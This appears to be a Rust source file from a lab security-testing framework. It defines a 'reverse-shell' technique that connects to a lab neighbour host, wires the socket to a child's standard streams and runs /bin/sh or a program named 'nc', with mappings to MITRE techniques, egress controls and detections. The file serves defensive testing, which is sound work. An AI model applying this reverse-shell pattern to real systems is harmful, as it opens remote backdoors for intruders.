use crate::call::{child, duplicate, exec, part, primitive, process_name, tcp, wait};
use crate::program::Step;
use crate::technique::{Condition, NEIGHBOUR_PORT, Place, Variant, variant};
use crate::ways::honest_program;

technique! {
    /// A shell is connected to somebody outside, who then types into it.
    ///
    /// ## What it tries
    ///
    /// To connect to the neighbour on the lab's network, which stands for the world, to make the connection the
    /// standard input and output of a child, and to start a program there: the image's own `sh`, or one that the
    /// attacker brought and calls `nc`. The shell is told to do nothing; nothing is read from the connection.
    ///
    /// ## Why it matters
    ///
    /// Firewalls that let nobody in let nearly everything out.
    ///
    /// ## What stops it
    ///
    /// A network that lets out only what is needed.
    "reverse-shell",
    threats: &["backdoor", "internet-egress", "data-exfiltration"],
    controls: &["network-least-privilege"],
    detections: &["detect-shell", "detect-system-binary-egress"],
    ids: &["attack:T1059.004", "attack:T1095"],
}

fn variants(place: &Place) -> Vec<Variant> {
    let nothing = format!(": {}", place.named("shell"));
    let probe = place.program();
    let through = |start: Vec<Step>| {
        let mut steps = tcp(place.neighbour, NEIGHBOUR_PORT);
        let mut inside: Vec<Step> = (0..3).map(|standard| duplicate("socket", standard)).collect();
        inside.extend(start);
        steps.push(part(child(inside)).named("shell"));
        steps.push(primitive(wait("shell")));
        steps
    };
    vec![
        variant("shell", through(vec![exec("/bin/sh", &["sh", "-c", &nothing])]))
            .missing_file("the image has no /bin/sh")
            .on(Condition::Outside),
        variant(
            "brought-along",
            through(vec![process_name("nc"), exec(&probe, &["nc", "true", &place.mark])]),
        )
        .on(Condition::Outside),
    ]
}

fn harmless(place: &Place) -> Vec<Step> {
    honest_program(place)
}
